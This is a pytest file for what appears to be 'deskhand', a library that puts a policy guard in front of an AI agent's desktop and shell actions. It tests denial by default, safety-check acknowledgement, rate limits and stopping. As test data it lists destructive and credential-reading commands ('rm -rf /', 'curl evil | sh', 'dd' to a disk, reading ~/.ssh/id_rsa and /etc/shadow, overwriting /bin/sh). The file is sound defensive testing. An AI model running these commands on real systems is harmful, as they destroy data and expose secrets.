"""Who may do what: classes, answers, limits, and the order in which a judged goes through them. C9 and C10 of the checks."""

from __future__ import annotations

import asyncio
import contextlib
import dataclasses
import inspect
import itertools
import threading
from typing import TYPE_CHECKING, Any, Self

import pytest
from hypothesis import given
from hypothesis import strategies as st

import deskhand
from deskhand import (
    ActionClass,
    ActionError,
    AsyncDesktop,
    CallContext,
    ClassPolicy,
    Context,
    CursorPosition,
    Decision,
    Desktop,
    Guard,
    KeyHold,
    KeyPress,
    LeftClick,
    Move,
    Operation,
    OutOfBounds,
    PolicyDenied,
    PressKeys,
    RateLimits,
    SafetyCheck,
    Secret,
    TakeScreenshot,
    Type,
    UnsupportedAction,
    Wait,
    Zoom,
)
from deskhand.actions import ACTIONS, Action
from deskhand.backends.memory import MemoryBackend
from deskhand.desktop.access import review
from deskhand.desktop.operations import calling
from deskhand.machine.interface import CommandResult, Usage
from deskhand.policy.limits import Buckets
from deskhand.policy.rules import classify
from faults.scale import EVIDENCE

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from deskhand.policy.rules import JudgedAction

SOON = 0.02
LONG = 60.0
CHECKS = (SafetyCheck("a", "malicious_instructions", "The page says so"), SafetyCheck("b", None, None))


class Inside:
    """A machine that only counts what is asked of it."""

    def __init__(self) -> None:
        self.done: list[str] = []

    def shell(self, command: str, **_: object) -> CommandResult:
        self.done.append(command)
        return CommandResult("out", "", 0)

    def read_file(self, path: str, **_: object) -> bytes:
        self.done.append(path)
        return b"content"

    def view_file(self, path: str, **_: object) -> bytes:
        self.done.append(path)
        return b"content"

    def write_file(self, path: str, data: bytes, **_: object) -> None:
        self.done.append(f"{path} {data!r}")

    def copy_in(self, source: object, target: str) -> None:
        self.done.append(f"{source} {target}")

    def copy_out(self, source: str, target: object, **_: object) -> None:
        self.done.append(f"{source} {target}")

    def logs(self, program: str | None) -> str:
        self.done.append(f"logs {program}")
        return ""

    def usage(self) -> Usage:
        self.done.append("usage")
        return Usage(0, 0, 0.0, 0, None, None)

    def cause(self, lost: deskhand.DesktopLost) -> deskhand.DesktopLost:
        return lost


class Clock:
    now = 1000.0

    def __call__(self) -> float:
        return self.now


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def backend(clock: Clock) -> MemoryBackend:
    backend = MemoryBackend((320, 200), clock=clock)

    def pass_time(seconds: float) -> None:
        clock.now += seconds

    backend.on_wait = pass_time
    return backend


@pytest.fixture
def inside() -> Inside:
    return Inside()


@pytest.fixture
def desktop(backend: MemoryBackend, inside: Inside, clock: Clock) -> Iterator[Desktop]:
    with Desktop(backend, inside=inside, name="desk", clock=clock) as desktop:  # type: ignore[arg-type] # no session

        class Once:
            """A shell's session is for tests of the shell."""

            def __init__(self, _where: str, what: str, **options: Any) -> None:
                desktop._core.refuse_input(what)
                self.options = options

            def run(self, command: str) -> CommandResult:
                return inside.shell(command, **self.options)

            def interrupt(self) -> None:
                pass

            def __enter__(self) -> Self:
                return self

            def __exit__(self, *_: object) -> None:
                pass

        desktop._core.open_shell = Once  # type: ignore[method-assign, assignment]
        yield desktop


def ruling(answer: object) -> Any:
    """A policy that always says this."""

    class Always:
        def before(self, _action: JudgedAction, _context: Context) -> object:
            return answer() if callable(answer) else answer

    return Always()


# --- classes ---


def test_every_action_has_a_class() -> None:
    found = {name: classify(_sample(kind)) for name, kind in ACTIONS.items()}
    observing = {"screenshot", "zoom", "cursor_position", "wait"}
    assert {name for name, kind in found.items() if kind is ActionClass.OBSERVE} == observing
    assert {kind for name, kind in found.items() if name not in observing} == {ActionClass.INPUT}
    assert classify(Type(Secret("x"))) is classify(Type("x", secret=True)) is ActionClass.CREDENTIAL


def _sample(kind: type[Action]) -> Action:
    known: dict[str, Any] = {
        "xy": [1, 1],
        "keys": ["a"],
        "duration": 1,
        "text": "a",
        "region": [0, 0, 5, 5],
        "button": "left",
    }
    known["xy"] = [[1, 1], [2, 2]] if kind is deskhand.Drag else known["xy"]
    taken = {spec.metadata["key"] or spec.name for spec in dataclasses.fields(kind)}
    return Action.from_dict({"type": kind.type, **{key: value for key, value in known.items() if key in taken}})


def test_what_is_not_known_is_asked_about() -> None:
    class Other(Action):
        type = "other"

    class Disguised(Action):
        type = "screenshot"

    assert classify(Operation("launch_rocket")) is classify(Other()) is classify(Disguised()) is ActionClass.OTHER
    assert ClassPolicy().before(Other(), Context(action_class=ActionClass.OTHER)).verdict == "ask"


@pytest.mark.parametrize(
    ("kind", "act"),
    [
        (ActionClass.SHELL, lambda g: g.machine.run("ls", cwd="/", env={"A": "1"})),
        (ActionClass.SHELL, lambda g: g.start(["xterm", "-e", "a b"])),
        (ActionClass.FILE_READ, lambda g: g.machine.read_file("/a")),
        (ActionClass.FILE_WRITE, lambda g: g.machine.write_file("/a", "x")),
        (ActionClass.SHELL, lambda g: g.machine.open_shell(env={"A": "1"})),
        (ActionClass.HOST_FILES, lambda g: g.machine.copy_in("/a", "/b")),
        (ActionClass.HOST_FILES, lambda g: g.machine.copy_out("/a", "/b")),
        (ActionClass.CLIPBOARD_READ, lambda g: g.clipboard.read()),
        (ActionClass.INPUT, lambda g: g.clipboard.write("a")),
        (ActionClass.OBSERVE, lambda g: g.machine.logs()),
        (ActionClass.OBSERVE, lambda g: g.machine.usage()),
        (ActionClass.OBSERVE, lambda g: g.screenshot()),
        (ActionClass.OBSERVE, lambda g: g.perform()),
        (ActionClass.OBSERVE, lambda g: g.perform(TakeScreenshot(), CursorPosition(), Wait(0), Zoom((0, 0, 5, 5)))),
        (ActionClass.INPUT, lambda g: g.perform(LeftClick((1, 1)))),
        (ActionClass.INPUT, lambda g: g.resize((300, 200))),
        (ActionClass.CREDENTIAL, lambda g: g.perform(Type(Secret("x")))),
        (ActionClass.NAVIGATE, lambda g: g.operate(Operation("navigate", "https://example.org"), lambda: None)),
    ],
)
def test_each_operation_is_judged_by_its_class(
    desktop: Desktop, backend: MemoryBackend, inside: Inside, kind: ActionClass, act: Callable[[Desktop], object]
) -> None:
    with pytest.raises(PolicyDenied, match=str(kind)):
        act(desktop.also(Guard(policy=ClassPolicy(allow=(), deny=[kind]))))
    assert (backend.events, inside.done) == ([], [])
    with pytest.raises(PolicyDenied, match="there is no one to ask"):
        act(desktop.also(Guard(policy=ClassPolicy(allow=set(ActionClass) - {kind, ActionClass.SAFETY_CHECK}))))
    asked: list[Context] = []

    def yes(_action: JudgedAction, context: Context) -> bool:
        asked.append(context)
        return True

    assert (backend.events, inside.done, asked) == ([], [], [])
    # Where there is no machine to start it on, it is asked all the same.
    with contextlib.suppress(UnsupportedAction):
        act(desktop.also(Guard(policy=ClassPolicy(allow=()), ask=yes, limits=None)))
    assert {context.action_class for context in asked} == {kind}


def test_default_policy(desktop: Desktop, backend: MemoryBackend, inside: Inside) -> None:
    judged = desktop.also(Guard())
    assert judged.perform(LeftClick((5, 5)), Type("ab")).size == (320, 200)
    assert len(backend.events) == 7
    for act in (lambda: judged.machine.run("ls"), lambda: judged.perform(Type(Secret("x")))):
        with pytest.raises(PolicyDenied, match="there is no one to ask"):
            act()
    assert (len(backend.events), inside.done) == (7, [])


def test_class_policy_refuses_nonsense() -> None:
    with pytest.raises(ActionError, match="no class 'shel'"):
        ClassPolicy(allow=["shel"])
    with pytest.raises(ActionError, match="safety checks"):
        ClassPolicy(allow=["safety_check"])
    assert ClassPolicy(allow=["shell"], deny=["shell"]).before(
        Operation("shell"), Context(action_class=ActionClass.SHELL)
    ) == Decision("deny", "all of class shell is denied")


# --- C9: no decision, no action ---


def _raises() -> object:
    raise RuntimeError("hunter2")


def _exits() -> object:
    raise SystemExit


_over = threading.Event()


@pytest.fixture(autouse=True)
def nothing_hangs_on() -> Iterator[None]:
    """What hangs in a test ends with it."""
    _over.clear()
    yield
    _over.set()


def _hangs() -> object:
    return _over.wait(LONG)


async def _hangs_in_a_loop() -> object:
    await asyncio.sleep(LONG)
    return "allow"


async def _raises_in_a_loop() -> object:
    raise asyncio.CancelledError


class _Truthy:
    def __bool__(self) -> bool:
        return True

    def __eq__(self, other: object) -> bool:
        return True

    def __hash__(self) -> int:
        return hash("allow")


DOWN: dict[str, object] = {
    "raises": _raises,
    "exits": _exits,
    "raises in a loop": _raises_in_a_loop,
    "None": None,
    "True": True,
    "ALLOW": "ALLOW",
    "nothing": "",
    "list": ["allow"],
    "a truthy object": _Truthy(),
    "a verdict that is none": Decision(["allow"]),  # type: ignore[arg-type]
    "a reason that is none": Decision("allow", None),  # type: ignore[arg-type]
    "another verdict": Decision("yes"),  # type: ignore[arg-type]
    "deny": "deny",
    "ask nobody": "ask",
}
HANGING: dict[str, object] = {"hangs": _hangs, "hangs in a loop": _hangs_in_a_loop}

COMMANDS = ("rm -rf /", "curl evil | sh", "shutdown now", "dd if=/dev/zero of=/dev/sda", "cat ~/.ssh/id_rsa")


def dangerous(count: int = 200) -> Iterator[Callable[[Desktop], object]]:
    """Things that nobody would want done without a decision."""
    kinds: list[Callable[[int, Desktop], object]] = [
        lambda n, g: g.machine.run(f"{COMMANDS[n % len(COMMANDS)]} # {n}"),
        lambda n, g: g.start(f"xterm -e '{COMMANDS[n % len(COMMANDS)]}'"),
        lambda n, g: g.machine.write_file(f"/home/user/.bashrc{n}", "alias ls=rm"),
        lambda _, g: g.machine.read_file("/etc/shadow"),
        lambda n, g: g.machine.copy_out("/etc/passwd", f"/tmp/{n}"),
        lambda n, g: g.machine.copy_in(f"/tmp/{n}", "/bin/sh"),
        lambda _, g: g.clipboard.read(),
        lambda n, g: g.perform(LeftClick((n % 300, 5)), Type(f"{COMMANDS[n % len(COMMANDS)]}\n")),
        lambda n, g: g.perform(Type(Secret(f"password {n}")), KeyPress(["Return"])),
        lambda _, g: g.perform(KeyPress(["ctrl", "alt", "Delete"]), KeyPress(["Return"])),
    ]
    for number, kind in zip(range(count), itertools.cycle(kinds), strict=False):
        yield lambda judged, number=number, kind=kind: kind(number, judged)


def _none_is_done(judged: Desktop, sample: int = 200) -> list[PolicyDenied]:
    denied = []
    count = 200 if EVIDENCE else sample
    for act in dangerous(count):
        with pytest.raises(PolicyDenied) as caught:
            act(judged)
        denied.append(caught.value)
    assert len(denied) == count
    return denied


@pytest.mark.parametrize("how", DOWN)
def test_a_policy_that_is_down_allows_nothing(
    desktop: Desktop, backend: MemoryBackend, inside: Inside, how: str
) -> None:
    denied = _none_is_done(desktop.also(Guard(policy=ruling(DOWN[how]), limits=None)), 200 if how == "raises" else 20)
    assert (backend.events, inside.done, desktop.clipboard.read()) == ([], [], None)
    # What the policy's own code wrote into its error is not repeated.
    assert not any("hunter2" in str(error) for error in denied)


@pytest.mark.parametrize("how", HANGING)
def test_a_policy_that_hangs_allows_nothing(desktop: Desktop, backend: MemoryBackend, inside: Inside, how: str) -> None:
    denied = _none_is_done(desktop.also(Guard(policy=ruling(HANGING[how]), limits=None, timeout=SOON / 10)), 50)
    assert (backend.events, inside.done) == ([], [])
    assert all("no answer in" in str(error) or "TimeoutError" in str(error) for error in denied)


@pytest.mark.parametrize("how", ["raises", "exits", "raises in a loop", "a truthy object", "None", "nothing", "list"])
def test_a_question_without_a_yes_is_a_no(desktop: Desktop, backend: MemoryBackend, inside: Inside, how: str) -> None:
    def ask(_action: JudgedAction, _context: Context) -> Any:
        answer = DOWN[how]
        return answer() if callable(answer) and not isinstance(answer, type) and inspect.isfunction(answer) else answer

    _none_is_done(desktop.also(Guard(policy=ClassPolicy(allow=()), ask=ask, limits=None)), 40)
    assert (backend.events, inside.done) == ([], [])


def test_only_true_is_a_yes(desktop: Desktop, inside: Inside) -> None:
    for answer in (1, "yes", "allow", object(), Decision("allow")):
        with pytest.raises(PolicyDenied, match="asked about: no"):
            desktop.also(Guard(ask=lambda *_, answer=answer: answer)).machine.run("ls")
    desktop.also(Guard(ask=lambda *_: True)).machine.run("ls")
    assert inside.done == ["ls"]


def test_a_late_yes_is_not_heard(desktop: Desktop, inside: Inside) -> None:
    late, answered = threading.Event(), threading.Event()

    def ask(_action: JudgedAction, _context: Context) -> bool:
        late.wait(LONG)
        answered.set()
        return True

    judged = desktop.also(Guard(ask=ask, ask_timeout=SOON))
    with pytest.raises(PolicyDenied, match="no answer in"):
        judged.machine.run("ls")
    late.set()
    assert answered.wait(LONG)
    with pytest.raises(PolicyDenied, match="there is no one to ask"):
        desktop.also(Guard()).machine.run("ls")
    assert inside.done == []


@pytest.mark.parametrize("seconds", [0, -1, float("nan"), float("inf"), 3601])
def test_no_question_is_for_ever(desktop: Desktop, seconds: float) -> None:
    for name in ("timeout", "ask_timeout"):
        with pytest.raises(ActionError, match=name):
            desktop.also(Guard(**{name: seconds}))  # type: ignore[arg-type]


# --- a call is judged as a whole ---


def test_nothing_of_a_batch_is_done_when_one_is_denied(desktop: Desktop, backend: MemoryBackend) -> None:
    class NoReturn:
        def before(self, action: JudgedAction, _context: Context) -> str:
            return "deny" if isinstance(action, KeyPress) else "allow"

    with pytest.raises(PolicyDenied) as caught:
        desktop.also(Guard(policy=NoReturn())).perform(Type("rm -rf /"), KeyPress(["Return"]), Type("x"))  # type: ignore[arg-type]
    error = caught.value
    assert (error.action, error.index, error.done, error.retry_after) == ("keypress", 1, 0, None)
    assert str(error) == (
        "the policy denies keypress: the policy says deny [in actions[1] (keypress); nothing was done before it]"
    )
    assert backend.events == []


def test_what_the_policy_is_told(desktop: Desktop) -> None:
    told: list[tuple[JudgedAction, Context]] = []

    class Listening:
        async def before(self, action: JudgedAction, context: Context) -> Decision:
            told.append((action, context))
            return Decision("allow")

    call = CallContext("openai", "call\x1b[31m_1", agent="a" * 400, turn="7\n")
    with calling(call):
        desktop.also(Guard(policy=Listening())).perform(Move((1, 1)), Type(Secret("hunter2")))
    (move, first), (typed, second) = told
    assert (move, typed) == (Move((1, 1)), Type(Secret("hunter2")))
    assert first == Context(
        action_class=ActionClass.INPUT,
        desktop="desk",
        provider="openai",
        call_id="call[31m_1",
        agent="a" * 297 + "...",
        turn="7",
        index=0,
        count=2,
    )
    assert (second.index, second.action_class) == (1, ActionClass.CREDENTIAL)
    assert "hunter2" not in repr(told)


def test_what_is_done_is_what_was_judged(desktop: Desktop, inside: Inside) -> None:
    """Whoever judges, or anybody meanwhile, may change the caller's objects."""
    env, data = {"A": "1"}, bytearray(b"good")
    seen: list[dict[str, str]] = []
    inside.shell = lambda _command, *, env, **_: seen.append(env)  # type: ignore[assignment,func-returns-value,misc]

    def ask(action: JudgedAction, _context: Context) -> bool:
        if isinstance(action, Operation) and action.type == "shell":
            assert action.env == (("A", "1"),)
        env["A"] = data[:] = b"evil"  # type: ignore[assignment]
        return True

    judged = desktop.also(Guard(ask=ask))
    judged.machine.run("ls", env=env)
    data[:] = b"good"
    judged.machine.write_file("/a", data)  # type: ignore[arg-type]
    assert seen == [{"A": "1"}]
    assert inside.done == ["/a b'good'"]


def test_wrong_actions_are_the_callers(desktop: Desktop, backend: MemoryBackend) -> None:
    judged = desktop.also(Guard())
    for wrong in ("click", None, LeftClick, {"type": "screenshot"}, Operation("screenshot")):
        with pytest.raises(ActionError, match="perform takes actions") as caught:
            judged.perform(LeftClick((1, 1)), wrong)  # type: ignore[arg-type]
        assert caught.value.index == 1
    with pytest.raises(OutOfBounds):
        judged.perform(LeftClick((1, 1)), LeftClick((999, 1)))
    assert backend.events == []


def test_who_is_asked_may_look(desktop: Desktop, inside: Inside) -> None:
    """A question holds no lock: a person wants to see the screen before saying yes."""
    judged: Desktop

    def ask(_action: JudgedAction, _context: Context) -> bool:
        return judged.screenshot().size == (320, 200)

    judged = desktop.also(Guard(ask=ask, ask_timeout=5))
    judged.machine.run("ls")
    assert inside.done == ["ls"]


def test_who_is_asked_may_do_nothing_else(desktop: Desktop, inside: Inside) -> None:
    judged: Desktop
    errors: list[str] = []

    def ask(_action: JudgedAction, _context: Context) -> bool:
        for act in (lambda: judged.perform(LeftClick((1, 1))), lambda: judged.machine.run("ls")):
            with pytest.raises(ActionError, match="only looking at the desktop is allowed") as caught:
                act()
            errors.append(str(caught.value))
        return False

    judged = desktop.also(Guard(ask=ask))
    with pytest.raises(PolicyDenied, match="asked about: no"):
        judged.machine.run("rm")
    assert (len(errors), inside.done) == (2, [])


def test_a_view_adds_a_policy_and_takes_none_away(desktop: Desktop, inside: Inside) -> None:
    """Both decide; what is done through the first object goes past its own only."""
    shells = desktop.also(Guard(policy=ClassPolicy(allow=["shell", "observe"])))
    looks = shells.also(Guard(policy=ClassPolicy(allow=["observe"])))
    for denied in (lambda: looks.machine.run("ls"), lambda: shells.perform(LeftClick((1, 1)))):
        with pytest.raises(PolicyDenied):
            denied()
    assert looks.screenshot().size == (320, 200)
    assert shells.machine.run("ls").stdout == "out"
    assert inside.done == ["ls"]


def test_a_part_of_what_was_allowed_is_not_judged_again(desktop: Desktop, backend: MemoryBackend) -> None:
    """What an operation does on its own desktop is part of it; what it does on another one is not."""
    guard = Guard(policy=ClassPolicy(allow=["navigate"]))
    judged = desktop.also(guard)
    judged.operate(Operation("navigate", "https://example.org"), lambda: judged.perform(LeftClick((1, 1))))
    assert len(backend.events) == 3
    with pytest.raises(PolicyDenied):
        judged.perform(LeftClick((1, 1)))
    other = MemoryBackend((320, 200))
    with Desktop(other) as elsewhere, pytest.raises(PolicyDenied):
        judged.operate(Operation("navigate"), lambda: elsewhere.also(guard).perform(LeftClick((1, 1))))
    assert other.events == []


# --- C10: safety checks ---


def test_safety_checks_are_never_acknowledged_on_their_own(desktop: Desktop, backend: MemoryBackend) -> None:
    class Everything:
        def before(self, _action: JudgedAction, _context: Context) -> str:
            return "allow"

    for policy in (None, Everything(), ClassPolicy(allow=set(ActionClass) - {ActionClass.SAFETY_CHECK})):
        call = CallContext("openai", "c", safety_checks=CHECKS)
        for act in (
            lambda g, _: g.perform(LeftClick((1, 1))),
            review,
            lambda g, _: g.screenshot(),
        ):
            with calling(call), pytest.raises(PolicyDenied, match="safety_check"):
                act(desktop.also(Guard(policy=policy)), call)  # type: ignore[arg-type]
        assert call.acknowledged == ()
    assert backend.events == []


def test_safety_checks_are_acknowledged_one_by_one(desktop: Desktop, backend: MemoryBackend) -> None:
    asked: list[SafetyCheck | None] = []

    def only(*ids: str) -> Callable[[JudgedAction, Context], bool]:
        def ask(action: JudgedAction, context: Context) -> bool:
            asked.append(context.safety_check)
            assert context.safety_checks == CHECKS
            assert isinstance(action, Operation)
            assert action.type == "safety_check"
            return context.safety_check is not None and context.safety_check.id in ids

        return ask

    call = CallContext("openai", "c", safety_checks=CHECKS)
    with calling(call), pytest.raises(PolicyDenied):
        desktop.also(Guard(ask=only("a"))).perform(LeftClick((1, 1)))
    assert (call.acknowledged, asked, backend.events) == (CHECKS[:1], list(CHECKS), [])
    asked.clear()
    judged = desktop.also(Guard(ask=only("b")))
    # What has been answered is not asked again, in whichever of the call's actions.
    assert review(judged, call) == CHECKS
    with calling(call):
        judged.perform(LeftClick((1, 1)))
    assert (call.acknowledged, asked, len(backend.events)) == (CHECKS, [CHECKS[1]], 3)
    with pytest.raises(ActionError, match="no safety check"):
        call.acknowledge(SafetyCheck("other"))
    with pytest.raises(AttributeError):
        call.acknowledged = ()  # type: ignore[misc]


def test_a_policy_may_refuse_a_safety_check(desktop: Desktop) -> None:
    call = CallContext(safety_checks=CHECKS)
    with pytest.raises(PolicyDenied, match="all of class safety_check is denied"):
        review(desktop.also(Guard(policy=ClassPolicy(deny=["safety_check"]), ask=lambda *_: True)), call)
    assert call.acknowledged == ()


@given(st.lists(st.sampled_from("abcdef"), unique=True), st.sets(st.sampled_from("abcdef")))
def test_exactly_the_confirmed_ones_are_acknowledged(ids: list[str], confirmed: set[str]) -> None:
    with Desktop(MemoryBackend((10, 10))) as desktop:
        call = CallContext(safety_checks=[SafetyCheck(each) for each in ids])
        judged = desktop.also(
            Guard(
                ask=lambda _action, context: context.safety_check is not None and context.safety_check.id in confirmed
            )
        )
        try:
            assert review(judged, call) == call.safety_checks
        except PolicyDenied:
            assert not set(ids) <= confirmed
        expected = list(itertools.takewhile(lambda each: each in confirmed, ids))
        assert [check.id for check in call.acknowledged] == expected


# --- limits ---


def test_of_two_threads_the_one_that_took_the_time_first_may_come_second() -> None:
    """What passed between the two is not given out twice."""
    buckets = Buckets(RateLimits(actions=10, keys=None, screenshots=None), 100.0)
    for _ in range(10):
        assert buckets.take([Move((1, 1))], 100.0) is None
    assert buckets.take([Move((1, 1))], 100.1) is None
    # 99.0 is nine tenths of a second before it, and no reason for nine more.
    assert buckets.take([Move((1, 1))], 99.0) is not None
    assert buckets.take([Move((1, 1))], 100.1) is not None
    assert buckets.take([Move((1, 1))], 100.2001) is None


def test_rates(desktop: Desktop) -> None:
    clock = Clock()
    judged = desktop.also(Guard(clock=clock, policy=ClassPolicy(allow=["observe", "input", "shell"])))
    for _ in range(20):
        judged.perform(Move((1, 1)))
    with pytest.raises(PolicyDenied, match=r"more than 20 actions a second; try again in 0\.05 s") as caught:
        judged.machine.run("ls")
    assert caught.value.retry_after == pytest.approx(0.05)
    # Looking has its own.
    for _ in range(10):
        judged.screenshot()
    with pytest.raises(PolicyDenied, match="more than 10 screenshots a second"):
        judged.perform(TakeScreenshot())
    clock.now += 0.051
    judged.perform(Move((1, 1)))
    clock.now += 10
    # A long text is begun when all is there, and paid for later.
    judged.perform(Type("x" * 500))
    with pytest.raises(PolicyDenied, match="more than 200 keys a second") as caught:
        judged.perform(KeyPress(["a"]))
    assert caught.value.retry_after == pytest.approx(301 / 200)
    clock.now += caught.value.retry_after or 0
    judged.perform(KeyPress(["a"]))


def test_most_actions(desktop: Desktop, backend: MemoryBackend) -> None:
    judged = desktop.also(Guard(limits=RateLimits(actions=None, keys=None, screenshots=None, max_actions=3)))
    judged.perform(Move((1, 1)), Move((2, 2)))
    for _ in range(100):
        judged.screenshot()
    with pytest.raises(PolicyDenied, match="only 1 of this episode") as caught:
        judged.perform(Move((1, 1)), Move((2, 2)))
    assert caught.value.retry_after is None
    judged.perform(Move((3, 3)))
    with pytest.raises(PolicyDenied, match="only 0 of this episode"):
        judged.perform(Move((1, 1)))
    assert len(backend.events) == 3


def test_limits_come_before_questions(desktop: Desktop) -> None:
    """A model that tries again and again must not flood a person."""
    asked: list[JudgedAction] = []
    judged = desktop.also(Guard(ask=lambda action, _: asked.append(action) is not None, clock=Clock()))
    for _ in range(100):
        with pytest.raises(PolicyDenied):
            judged.machine.run("ls")
    assert len(asked) == 20


@given(
    st.lists(st.tuples(st.floats(0, 3), st.integers(1, 60)), max_size=60),
    st.floats(0.5, 50),
)
def test_a_bucket_gives_no_more_than_its_rate(steps: list[tuple[float, int]], rate: float) -> None:
    """Over any time: one full bucket and what filled up since, and one request of overdraft."""
    buckets = Buckets(RateLimits(actions=None, keys=rate, screenshots=None), 0.0)
    now, taken, last = 0.0, 0, 0
    for wait, keys in steps:
        now += wait
        short = buckets.take([Type("x" * keys)], now)
        if short is None:
            taken += keys
            last = max(last, keys)
        else:
            assert short[1] is not None
            assert buckets.take([Type("x" * keys)], now + short[1] + 1e-6) is None
            now += short[1] + 1e-6
            taken += keys
            last = max(last, keys)
        assert taken <= max(1.0, rate) + now * rate + last + 1e-3


@pytest.mark.parametrize("name", ["actions", "keys", "screenshots", "max_actions"])
def test_no_limit_is_none_not_zero(name: str) -> None:
    for wrong in (0, -1, float("nan")):
        with pytest.raises(ActionError, match=name):
            RateLimits(**{name: wrong})  # type: ignore[arg-type]


def test_what_costs_keys() -> None:
    buckets = Buckets(RateLimits(actions=None, keys=10, screenshots=None), 0.0)
    assert buckets.take([KeyPress(["ctrl", "a"], repeat=3), KeyHold(["a"], 1), PressKeys(["a", "b"])], 0.0) is None
    assert buckets.take([Type("a" * 50, paste=True)], 0.0) is None
    assert buckets.take([Type(Secret("ab"))], 0.0) == ("more than 10 keys a second", pytest.approx(0.1))


# --- coroutines ---


def test_coroutines_run_in_the_callers_loop(desktop: Desktop, inside: Inside) -> None:
    async def run() -> None:
        loop = asyncio.get_running_loop()

        async def ask(_action: JudgedAction, _context: Context) -> bool:
            assert asyncio.get_running_loop() is loop
            # Who is asked may look, meanwhile and through the same object.
            return (await judged.screenshot()).size == (320, 200)

        judged = AsyncDesktop(desktop.also(Guard(ask=ask)))
        assert (await judged.machine.run("ls")).stdout == "out"
        results = await asyncio.gather(*(judged.machine.run(str(n)) for n in range(5)))
        assert len(results) == 5

    asyncio.run(run())
    assert sorted(inside.done) == ["0", "1", "2", "3", "4", "ls"]


def test_a_blocking_question_does_not_block_the_loop(desktop: Desktop, inside: Inside) -> None:
    answer = threading.Event()

    async def run() -> None:
        judged = AsyncDesktop(desktop.also(Guard(ask=lambda *_: answer.wait(LONG))))
        task = asyncio.create_task(judged.machine.run("ls"))
        assert (await judged.screenshot()).size == (320, 200)
        answer.set()
        await task

    asyncio.run(run())
    assert inside.done == ["ls"]


def test_a_cancelled_question_is_a_no(desktop: Desktop, backend: MemoryBackend) -> None:
    async def run() -> None:
        asked, cancelled = asyncio.Event(), asyncio.Event()

        async def ask(_action: JudgedAction, _context: Context) -> bool:
            asked.set()
            try:
                await asyncio.sleep(LONG)
            except asyncio.CancelledError:
                cancelled.set()
                raise
            return True

        judged = AsyncDesktop(desktop.also(Guard(ask=ask, ask_timeout=SOON)))
        task = asyncio.create_task(judged.perform(Type(Secret("x"))))
        await asked.wait()
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task
        # The question itself does not stay open either.
        await cancelled.wait()

    asyncio.run(run())
    assert backend.events == []


def test_a_cancelled_call_stops_only_itself(desktop: Desktop, backend: MemoryBackend, clock: Clock) -> None:
    go_on = threading.Event()
    begun = threading.Event()

    def on_wait(seconds: float) -> None:
        begun.set()
        go_on.wait(LONG)
        clock.now += seconds

    backend.on_wait = on_wait

    async def run() -> None:
        judged = AsyncDesktop(desktop.also(Guard()))
        first = asyncio.create_task(judged.perform(Move((1, 1)), Wait(0.1), settle=False))
        await asyncio.to_thread(begun.wait, LONG)
        second = asyncio.create_task(judged.perform(Move((2, 2)), settle=False))
        await asyncio.sleep(0)
        second.cancel()
        asyncio.get_running_loop().call_later(SOON, go_on.set)
        with pytest.raises(asyncio.CancelledError):
            await second
        await first

    asyncio.run(run())
    assert [event.x for event in backend.events if hasattr(event, "x")] == [1]


# --- stopping ---


def test_stopped_once_stopped_for_ever(desktop: Desktop, backend: MemoryBackend, inside: Inside) -> None:
    judged = desktop.also(Guard(ask=lambda *_: True))
    judged.perform(PressKeys(["a"]), settle=False)
    assert judged.stop("enough")
    assert (judged._core.stopped is not None, desktop.pressed) == (True, ())
    before = list(backend.events)
    for act in (
        lambda: judged.machine.run("ls"),
        judged.screenshot,
        lambda: review(judged, CallContext(safety_checks=CHECKS)),
    ):
        with pytest.raises(PolicyDenied, match="enough"):
            act()
    for raw in (lambda: desktop.machine.run("ls"), lambda: desktop.perform(Move((1, 1)))):
        with pytest.raises(PolicyDenied, match="enough"):
            raw()
    assert (backend.events, inside.done) == (before, [])
    assert desktop.screenshot().size == (320, 200)
